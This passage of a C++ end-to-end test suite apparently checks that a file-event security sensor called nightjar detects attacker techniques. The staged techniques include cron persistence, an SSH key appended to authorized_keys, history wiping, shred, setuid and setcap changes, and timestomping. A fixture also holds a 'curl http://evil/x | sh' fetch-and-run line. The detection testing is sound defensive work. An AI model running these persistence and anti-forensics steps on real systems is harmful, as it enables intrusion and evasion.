  FIND(c, "create", cp.pid, copy);
  expect_common(c, cp.pid);
  EXPECT_EQ(get(c, "process.name"), "cp");
  EXPECT_EQ(get(c, "file.type"), "file");
  FIND(r, "rename", mv.pid, daemon);
  expect_common(r, mv.pid);
  EXPECT_EQ(get(r, "nightjar.file.original.path"), copy);
  WAIT(
      x, [&](const json& e) { return is_exec(e, run.pid); }, "exec of pid " + std::to_string(run.pid));
  EXPECT_EQ(get(x, "process.executable"), daemon);
  EXPECT_EQ(get(x, "process.name"), "kworkerd");
  EXPECT_EQ(std::to_string(get(x, "nightjar.exe.inode").get<uint64_t>()), get(c, "file.inode"));
}

// A cron job dropped the careful way: written to a temp file, renamed into
// the watched directory (tagged persistence by the suite's rules).
TEST_P(FileEvents, AttackCronFileDroppedThroughATempFileAndRename) {
  const std::string tmp = dir_ + "/.cron-tmp", job = base().dir + "/cron.d/nj-job-" + GetParam();
  ToolRun sh = run_tool({"/bin/sh", "-c", "printf '* * * * * root /tmp/x\\n' > " + tmp});
  ASSERT_EQ(sh.status, 0);
  ToolRun mv = run_tool({"mv", tmp, job});
  ASSERT_EQ(mv.status, 0);

  FIND(c, "create", sh.pid, tmp);
  EXPECT_FALSE(has(c, "nightjar.file.tags")) << "the temp file is nowhere watched";
  FIND(r, "rename", mv.pid, job);
  expect_common(r, mv.pid);
  EXPECT_EQ(get(r, "nightjar.file.original.path"), tmp);
  EXPECT_EQ(get(r, "nightjar.file.tags"), json::array({"persistence"}));
  fs::remove(job);
}

// A key appended to an authorized_keys file, then the file read back.
TEST_P(FileEvents, AttackAppendToAuthorizedKeys) {
  const std::string keys = base().dir + "/ssh/authorized_keys-" + GetParam();
  { std::ofstream(keys) << "ssh-ed25519 AAAAold user@host\n"; }
  ToolRun sh = run_tool({"/bin/sh", "-c", "echo 'ssh-ed25519 AAAAnj attacker' >> " + keys});
  ASSERT_EQ(sh.status, 0);
  ToolRun cat = run_tool({"cat", keys});
  ASSERT_EQ(cat.status, 0);

  FIND(m, "modify", sh.pid, keys);
  expect_common(m, sh.pid);
  EXPECT_EQ(get(m, "nightjar.file.tags"), json::array({"ssh"}));
  const json flags = get(m, "nightjar.file.open_flags");
  EXPECT_NE(std::find(flags.begin(), flags.end(), json("O_APPEND")), flags.end()) << flags.dump();
  FIND(r, "read", cat.pid, keys);
  expect_common(r, cat.pid);
  EXPECT_EQ(get(r, "nightjar.file.tags"), json::array({"ssh"}));

  // Moved out of the watched directory: tagged by where it was.
  const std::string out = dir_ + "/keys";
  ToolRun mv = run_tool({"mv", keys, out});
  ASSERT_EQ(mv.status, 0);
  FIND(o, "rename", mv.pid, out);
  EXPECT_EQ(get(o, "nightjar.file.original.path"), keys);
  EXPECT_EQ(get(o, "nightjar.file.tags"), json::array({"ssh"}));
}

// A shell history emptied and deleted.
TEST_P(FileEvents, AttackHistoryTruncatedAndDeleted) {
  const std::string hist = base().dir + "/hist/.bash_history-" + GetParam();
  { std::ofstream(hist) << "curl http://evil/x | sh\n"; }
  ToolRun sh = run_tool({"/bin/sh", "-c", ": > " + hist});
  ASSERT_EQ(sh.status, 0);
  ToolRun rm = run_tool({"rm", hist});
  ASSERT_EQ(rm.status, 0);

  FIND(m, "modify", sh.pid, hist);
  expect_common(m, sh.pid);
  EXPECT_EQ(get(m, "nightjar.file.tags"), json::array({"history"}));
  const json flags = get(m, "nightjar.file.open_flags");
  EXPECT_NE(std::find(flags.begin(), flags.end(), json("O_TRUNC")), flags.end()) << flags.dump();
  FIND(d, "delete", rm.pid, hist);
  expect_common(d, rm.pid);
  EXPECT_EQ(get(d, "nightjar.file.tags"), json::array({"history"}));
  EXPECT_EQ(get(d, "file.name"), ".bash_history-" + GetParam());
  EXPECT_FALSE(has(d, "file.extension")) << "a leading dot starts no extension";
}

// shred -u: overwritten in place, then (GNU) renamed to shorter and
// shorter names of zeros, then deleted.
TEST_P(FileEvents, AttackShredU) {
  if (!have_program("shred")) GTEST_SKIP() << "no shred here";
  const std::string victim = dir_ + "/secret.txt";
  { std::ofstream(victim) << std::string(4096, 's'); }
  ToolRun shred = run_tool({"shred", "-u", victim});
  ASSERT_EQ(shred.status, 0);

  FIND(m, "modify", shred.pid, victim);
  expect_common(m, shred.pid);
  EXPECT_EQ(get(m, "process.name"), "shred");
  WAIT(
      d,
      [&](const json& e) { return is_file_event(e, "delete", shred.pid) && e["file"].value("directory", "") == dir_; },
      "delete by shred in " + dir_);
  expect_common(d, shred.pid);
  auto renames = sensor().all([&](const json& e) { return is_file_event(e, "rename", shred.pid); }, 0);
  if (!renames.empty()) {
    EXPECT_EQ(get(renames.front(), "nightjar.file.original.path"), victim);
    EXPECT_EQ(get(renames.back(), "file.path"), get(d, "file.path")) << "the last name is the one deleted";
  }
}

TEST_P(FileEvents, AttackChmodUPlusS) {
  const std::string bin = dir_ + "/backdoor";
  fs::copy_file("/usr/bin/true", bin);
  fs::permissions(bin, fs::perms(0755));
  ToolRun chmod = run_tool({"chmod", "u+s", bin});
  ASSERT_EQ(chmod.status, 0);
  FIND(e, "chmod", chmod.pid, bin);
  expect_common(e, chmod.pid);
  EXPECT_EQ(get(e, "nightjar.file.new_mode"), "4755");
  EXPECT_EQ(get(e, "nightjar.file.mode_bits"), json::array({"setuid"}));
}

// Timestomping.
TEST_P(FileEvents, AttackTouchBackdates) {
  const std::string f = dir_ + "/implant.so";
  { std::ofstream(f) << "x"; }
  ToolRun touch = run_tool({"touch", "-d", "2001-01-01 00:00:00", f}, {"TZ=UTC"});
  ASSERT_EQ(touch.status, 0);
  FIND(e, "times", touch.pid, f);
  expect_common(e, touch.pid);
  EXPECT_EQ(get(e, "process.name"), "touch");
  EXPECT_EQ(get(e, "nightjar.file.atime"), "2001-01-01T00:00:00.000000000Z");
  EXPECT_EQ(get(e, "nightjar.file.mtime"), "2001-01-01T00:00:00.000000000Z");
  EXPECT_EQ(get(e, "file.extension"), "so");
}

// File capabilities given to a copy of an interpreter: setcap where libcap's
// tools are, else the same attribute (a v2 blob: cap_net_raw permitted and
// effective) set from Python.
TEST_P(FileEvents, AttackSetcapOnACopyOfPython) {
  if (access("/usr/bin/python3", X_OK) != 0) GTEST_SKIP() << "no python3 here";
  const std::string py = dir_ + "/python3-cap";
  fs::copy_file(fs::canonical("/usr/bin/python3"), py);
  ToolRun set;
  if (have_program("setcap")) {
    set = run_tool({"setcap", "cap_net_raw+ep", py});
  } else {
    set = run_tool({"/usr/bin/python3", "-c",
                    "import os, struct, sys; os.setxattr(sys.argv[1], 'security.capability', "
                    "struct.pack('<5I', 0x02000001, 1 << 13, 0, 0, 0))",
                    py});
  }
  ASSERT_EQ(set.status, 0);
  FIND(e, "xattr", set.pid, py);
  expect_common(e, set.pid);
  EXPECT_EQ(get(e, "nightjar.file.xattr.name"), "security.capability");
  EXPECT_EQ(get(e, "nightjar.file.xattr.operation"), "set");
  EXPECT_EQ(get(e, "nightjar.file.xattr.file_capabilities"), true);
  const json size = get(e, "nightjar.file.xattr.size");
  EXPECT_TRUE(size == 20 || size == 24) << size << ": a v2 or v3 capability blob";
}

// ---------------------------------------------------------------------------
// Rules.

// Nothing below an `exclude` rule's directory is reported, whether the
// kernel drops it (opens) or the tracker does (calls that name a path); a
// file moved out of it is seen.
TEST_P(FileEvents, ExcludedPathsAreNotReported) {
  const std::string ex = base().dir + "/excluded/" + GetParam(), out = dir_ + "/escaped";
  const std::string script = "mkdir " + ex + " && echo x > " + ex + "/f && chmod 600 " + ex + "/f && mv " + ex + "/f " +
                             ex + "/g && touch -d 2001-01-01 " + ex + "/g && mv " + ex + "/g " + out + " && rm -r " +
                             ex + " && echo y > " + dir_ + "/anchor";
  ToolRun sh = run_tool({"/bin/sh", "-c", script});
  ASSERT_EQ(sh.status, 0);
  FIND(anchor, "create", sh.pid, dir_ + "/anchor");
  WAIT(
      r,
      [&](const json& e) {
        return e.contains("file") && e["event"]["action"] == "rename" && e["file"].value("path", "") == out;
      },
      "the move out of the excluded directory");
  EXPECT_EQ(get(r, "nightjar.file.original.path"), ex + "/g");
  auto inside = sensor().all(
      [&](const json& e) {
        return e.contains("file") && e["event"]["category"] == json::array({"file"}) &&
               e["file"].value("path", "").rfind(ex, 0) == 0;
      },
      300);
  EXPECT_TRUE(inside.empty()) << inside.size() << " events below " << ex << ", first: " << inside[0].dump();
}

// A directory a read rule names that did not exist at start is watched
// from its creation on: the tracker tells the kernel its identity.
TEST_P(FileEvents, WatchedDirectoryCreatedAfterStart) {
  const std::string late = base().dir + "/late-" + GetParam(), f = late + "/token";
  ASSERT_FALSE(fs::exists(late));
  ToolRun mk = run_tool({"mkdir", late});
  ASSERT_EQ(mk.status, 0);
  FIND(c, "create", mk.pid, late);
  EXPECT_EQ(get(c, "nightjar.file.tags"), json::array({"nj-late"}));
  { std::ofstream(f) << "t"; }
  ToolRun cat = run_tool({"cat", f});
  ASSERT_EQ(cat.status, 0);
  FIND(r, "read", cat.pid, f);
  expect_common(r, cat.pid);
  EXPECT_EQ(get(r, "nightjar.file.tags"), json::array({"nj-late"}));
  fs::remove_all(late);
}

INSTANTIATE_TEST_SUITE_P(FileTransports, FileEvents, ::testing::Values("ringbuf", "perfbuf"),
                         [](const auto& info) { return info.param; });

// The window set to 0: every open for writing is a modification, even of a
// file the process just created.
TEST(FileModifyWindow, ZeroReportsEveryWrite) {
  SensorProcess s({"--events", "file", "--modify-window-ms", "0", "--ringbuf-size", "67108864"});
  s.keep_lines_with(kNeedles);
  const std::string dir = temp_dir();
  json a = file_act("file-modify-twice", dir);
  ASSERT_FALSE(a.is_null());
  auto of = [&](const std::string& action, const std::string& path) {
    return [&, action, path](const json& e) {
      return is_file_event(e, action, a["pid"]) && e["file"].value("path", "") == path;
    };
  };
  const bool marker = !s.wait_for(of("chmod", a["created"]), kWaitMs).is_null();
  const size_t mods = s.all(of("modify", a["existing"])).size(), creates = s.all(of("create", a["created"]), 0).size(),
               mods2 = s.all(of("modify", a["created"]), 0).size();
  if ((!marker || mods != 2 || creates != 1 || mods2 != 1) && lost_total(s) > 0)
    GTEST_SKIP() << "inconclusive: the sensor lost records meanwhile";
  ASSERT_TRUE(marker);
  EXPECT_EQ(mods, 2u);
  EXPECT_EQ(creates, 1u);
  EXPECT_EQ(mods2, 1u);
  EXPECT_EQ(s.stop(), 0);
  expect_schema_valid(s.output_path());
  fs::remove_all(dir);
  if (all_passed()) fs::remove_all(fs::path(s.output_path()).parent_path());
}

}  // namespace
}  // namespace nj::e2e
